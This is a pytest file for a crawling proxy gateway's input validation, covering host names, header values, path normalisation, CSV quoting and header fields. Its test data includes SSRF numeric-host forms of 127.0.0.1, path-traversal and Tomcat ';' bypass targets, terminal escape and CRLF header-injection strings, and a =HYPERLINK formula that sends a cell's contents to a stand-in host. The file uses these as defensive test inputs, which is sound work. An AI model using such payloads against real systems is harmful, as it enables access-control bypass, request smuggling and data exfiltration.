"""proxy/inputs.py: the gateway's own checks on hosts, X-Crawl-* values and body framing."""

from __future__ import annotations

import pytest

from proxy.inputs import RecordedValue
from proxy.inputs import agreed_value
from proxy.inputs import canonical_target
from proxy.inputs import check_body_framing
from proxy.inputs import check_host
from proxy.inputs import check_recorded_value
from proxy.inputs import csv_cell
from proxy.inputs import field_problem
from proxy.inputs import other_readings
from proxy.inputs import recordable
from proxy.inputs import target_problem


@pytest.mark.parametrize(
    ("raw", "host"),
    [
        ("Site-A.Test", "site-a.test"),
        ("site-a.test.", "site-a.test"),
        ("bücher.test", "xn--bcher-kva.test"),
        ("xn--bcher-kva.test", "xn--bcher-kva.test"),
        ("_dmarc.example.org", "_dmarc.example.org"),
        ("93.184.216.34", "93.184.216.34"),
        ("127.0.0.1", "127.0.0.1"),
        ("[::1]", "::1"),
        ("[2001:DB8::1]", "2001:db8::1"),
        ("::ffff:127.0.0.1", "::ffff:7f00:1"),
        ("123.example", "123.example"),
    ],
)
def test_hosts_are_canonical(raw: str, host: str) -> None:
    assert check_host(raw) == (host, None)


@pytest.mark.parametrize(
    "raw",
    [
        "2130706433",  # 127.0.0.1 as one decimal number
        "0x7f.1",  # hex and a short form
        "0x7f000001",
        "0177.0.0.1",  # octal
        "127.1",
        "127.0.1",
        "017700000001",
        "1.2.3.4.5",
        "example.0x10",  # WHATWG: ends in a number, so an IPv4 address
        "256.0.0.1",
    ],
)
def test_numeric_hosts_that_are_not_dotted_quads_are_refused(raw: str) -> None:
    host, problem = check_host(raw)
    assert host is None
    assert problem is not None and "numeric host" in problem


@pytest.mark.parametrize(
    ("raw", "phrase"),
    [
        ("", "no host"),
        ("a..b", "not a valid host name"),
        ("-a.test", "not a valid host name"),
        ("a b.test", "not a valid host name"),
        ("a\x00b.test", "not a valid host name"),
        ("a" * 64 + ".test", "not a valid host name"),
        ("xn--zz.test", "not valid punycode"),
        ("[fe80::1%eth0]", "zone identifiers"),
        ("[::1", "not a valid IPv6 address"),
        ("[1:2:3:4:5:6:7:8:9]", "not a valid IPv6 address"),
        ("\udcff.test", "not a valid internationalized host name"),
    ],
)
def test_malformed_hosts_are_refused_with_a_reason(raw: str, phrase: str) -> None:
    host, problem = check_host(raw)
    assert host is None and problem is not None
    assert phrase in problem
    problem.encode("ascii")  # safe to put in a header, a log line and a record


@pytest.mark.parametrize(
    ("raw", "value"),
    [
        (None, None),
        ("", None),
        ("  faces-v2  ", "faces-v2"),
        ("Konto-Zürich 7", "Konto-Zürich 7"),
        ("a" * 256, "a" * 256),
    ],
)
def test_recorded_values_are_kept_as_sent(raw: str | None, value: str | None) -> None:
    assert check_recorded_value("X-Crawl-Account", raw) == (value, None)


@pytest.mark.parametrize(
    "raw",
    [
        "a\x00b",
        "a\x01b",
        "a\rb",
        "a\r\n b",  # obs-fold, which mitmproxy's parser keeps
        "a\x7fb",
        "\udcff\udcfe",  # bytes that were not UTF-8
        "a\u202eb",  # right-to-left override: a spoofed name in an auditor's report
        "a\u2028b",
        "a" * 257,
    ],
)
def test_unprintable_or_long_recorded_values_are_refused(raw: str) -> None:
    value, problem = check_recorded_value("X-Crawl-Account", raw)
    assert value is None
    assert problem is not None and problem.startswith("X-Crawl-Account")


@pytest.mark.parametrize(
    ("header", "named", "value"),
    [
        (None, None, None),
        ("faces-v2", None, "faces-v2"),
        (None, "faces-v2", "faces-v2"),
        ("faces-v2", "faces-v2", "faces-v2"),
        (" faces-v2 ", "faces-v2", "faces-v2"),
    ],
)
def test_a_project_from_the_header_or_the_user_name(
    header: str | None, named: str | None, value: str | None
) -> None:
    from_header = check_recorded_value("X-Crawl-Project", header)
    assert agreed_value(from_header, "project", named) == (value, None)


def test_two_different_projects_are_refused_not_ranked() -> None:
    from_header = check_recorded_value("X-Crawl-Project", "faces-v2")
    value, problem = agreed_value(from_header, "project", "landscapes")
    assert value is None
    assert problem is not None
    assert "X-Crawl-Project says 'faces-v2'" in problem and "'landscapes'" in problem


@pytest.mark.parametrize("named", ["a\x00b", "x" * 300])
def test_a_user_names_project_is_checked_as_the_headers_is(named: str) -> None:
    value, problem = agreed_value(RecordedValue(None, None), "account", named)
    assert value is None and problem is not None
    assert problem.startswith("the proxy user name's account")


def test_request_targets_with_control_characters_or_broken_utf8_are_refused() -> None:
    assert target_problem("/images/a%20b.jpg?q=1") is None
    assert target_problem("/bilder/straße.jpg") is None  # valid UTF-8 is recorded as sent
    assert target_problem("/a\x01b") is not None
    assert target_problem("/a\udcffb") is not None


@pytest.mark.parametrize(
    ("content_length", "transfer_encoding", "too_large", "length_required"),
    [
        (None, None, False, False),
        ("0", None, False, False),
        ("1000", None, False, False),
        ("1001", None, True, False),
        ("100000000000000000000", None, True, False),
        (None, "chunked", False, True),
        ("10", "chunked", False, False),  # conflicting framing is mitmproxy's to refuse
    ],
)
def test_body_framing(
    content_length: str | None,
    transfer_encoding: str | None,
    too_large: bool,
    length_required: bool,
) -> None:
    framing = check_body_framing(content_length, transfer_encoding, 1000)
    assert (framing.too_large is not None) is too_large
    assert (framing.length_required is not None) is length_required


@pytest.mark.parametrize(
    ("target", "resolved"),
    [
        ("/a/b", "/a/b"),
        ("/a/./b", "/a/b"),
        ("/x/../private/a.jpg", "/private/a.jpg"),
        ("/robots.txt/../private/a.jpg", "/private/a.jpg"),
        ("/open/%2E%2e/private/a", "/private/a"),  # %2e is "." (WHATWG)
        ("/x/.%2E/y", "/y"),
        ("/a/b/../c/./d/..", "/a/c/"),  # a last dot segment leaves its slash
        ("/..", "/"),
        ("/../../etc", "/etc"),  # nothing above the root
        ("/a/..b/c.", "/a/..b/c."),  # dots inside names are names
        ("/x/../a?next=/../b", "/a?next=/../b"),  # the query is not a path
        ("//private/../x", "//x"),
        ("*", "*"),
        ("/%70rivate/a.jpg", "/private/a.jpg"),  # escapes of unreserved characters decoded
        ("/%7Euser/%6d", "/~user/m"),
        ("/a%2fb%3a", "/a%2Fb%3A"),  # the others upper-cased, kept
        ("/a%2e%2E/b/%2e%2e/c", "/a../c"),
        ("/a?q=%7E&r=/../", "/a?q=%7E&r=/../"),
        ("/100%", "/100%"),  # not an escape
        # A fragment is no part of a request target: servers drop it, and so does the gateway.
        ("/photo.jpg#x", "/photo.jpg"),
        ("/photo.jpg#", "/photo.jpg"),
        ("/a?q=1#x", "/a?q=1"),
        ("/open#/../private/a", "/open"),
        ("/x/../private/%61.jpg#frag", "/private/a.jpg"),
    ],
)
def test_a_target_is_read_as_the_site_will(target: str, resolved: str) -> None:
    assert canonical_target(target) == resolved


@pytest.mark.parametrize(
    ("target", "readings"),
    [
        ("/private/a.jpg", ()),
        ("//private/a.jpg", ("/private/a.jpg",)),  # nginx merge_slashes, http.server's "//"
        ("/private%2Fa.jpg", ("/private/a.jpg",)),
        ("/private%5ca.jpg", ("/private/a.jpg",)),  # IIS
        ("/private\\a.jpg", ("/private/a.jpg",)),
        ("/open%2F..%2Fprivate/a", ("/private/a",)),
        ("/a//b/?q=1", ("/a/b/?q=1",)),
        ("/search?u=http://x//y", ()),  # only the path is read
        # Servlet containers (Tomcat, Jetty) drop each segment's ";" parameters.
        ("/private;x/a.jpg", ("/private/a.jpg",)),
        ("/private;/a.jpg", ("/private/a.jpg",)),
        ("/x/..;/private/a.jpg", ("/private/a.jpg",)),
        ("/x;/..;/private/a.jpg", ("/private/a.jpg",)),
        ("/img.gif;", ("/img.gif",)),
        ("/a;jsessionid=1?q=;x", ("/a?q=;x",)),  # only the path is read
        ("/search?q=%73ecret", ("/search?q=secret",)),  # unreserved escapes in the query
        ("/search?q=%2Fx%3D", ()),  # reserved ones stay escaped
        ("//s?q=%73", ("//s?q=s", "/s?q=%73", "/s?q=s")),
        ("//private;x/a.jpg", ("/private;x/a.jpg", "//private/a.jpg", "/private/a.jpg")),
        # a parameter on an empty segment: dropped, the "//" it leaves merged (Tomcat does)
        ("/;/private/a.jpg", ("//private/a.jpg", "/private/a.jpg")),
        ("/;x/private/a.jpg", ("//private/a.jpg", "/private/a.jpg")),
        ("/a/;/;/b", ("/a///b", "/a/b")),
    ],
)
def test_other_readings_of_a_path(target: str, readings: tuple[str, ...]) -> None:
    assert other_readings(target) == readings


@pytest.mark.parametrize(
    ("raw", "recorded"),
    [
        ("https://site-a.test/caf\u00e9.jpg", "https://site-a.test/caf\u00e9.jpg"),  # printable
        ("site-a.test\x1b]0;pwned\x07\x1b[2J", "site-a.test\\x1b]0;pwned\\x07\\x1b[2J"),
        ("a\tb\x7fc\u2028", "a\\tb\\x7fc\\u2028"),
        ("bad-\udc80-byte", "bad-\\udc80-byte"),  # not UTF-8, as mitmproxy hands it over
    ],
)
def test_what_is_recorded_from_the_wire_has_no_control_character(raw: str, recorded: str) -> None:
    assert recordable(raw) == recorded
    assert recordable(raw).isprintable()


@pytest.mark.parametrize(
    ("raw", "cell"),
    [
        (
            '=HYPERLINK("https://x.example/?"&A1,"details")',
            '\'=HYPERLINK("https://x.example/?"&A1,"details")',
        ),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "\\t=1+2"),  # escaped, so no longer a formula
        ("acct=1", "acct=1"),
        ("https://site-a.test/a.jpg", "https://site-a.test/a.jpg"),
    ],
)
def test_a_csv_cell_is_never_a_spreadsheet_formula(raw: str, cell: str) -> None:
    assert csv_cell(raw) == cell


@pytest.mark.parametrize(
    "fields",
    [
        ((b"X-Foo", b"a\rHost: blocked.test"),),  # a bare CR: a line end to http.server
        ((b"X-Foo", b"a\r\n Transfer-Encoding: chunked"),),  # an obs-fold, as mitmproxy keeps it
        ((b"Accept", b"*/*"), (b"X-Foo", b"a\x00b")),
        ((b"X-F\roo", b"a"),),
    ],
)
def test_a_cr_lf_or_nul_in_a_field_is_refused(fields: tuple[tuple[bytes, bytes], ...]) -> None:
    problem = field_problem(fields)
    assert problem is not None and "CR, LF or NUL" in problem
    assert problem.isprintable()  # the field's name shown escaped


def test_fields_without_line_breaks_pass() -> None:
    assert (
        field_problem(((b"Accept", b"*/*"), (b"X-Tab", b"a\tb"), (b"X-Utf8", "é".encode()))) is None
    )
